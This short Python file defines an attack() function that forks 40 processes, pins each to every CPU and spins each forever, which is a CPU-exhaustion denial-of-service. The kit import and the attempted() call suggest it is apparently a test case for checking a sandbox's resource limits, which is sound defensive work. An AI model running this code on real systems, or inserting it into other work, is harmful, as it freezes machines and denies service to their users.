from kit import *


def attack():
    attempted()
    for _ in range(40):
        if os.fork() == 0:
            try:
                os.sched_setaffinity(0, range(os.cpu_count()))
            except OSError:
                pass
            while True:
                pass
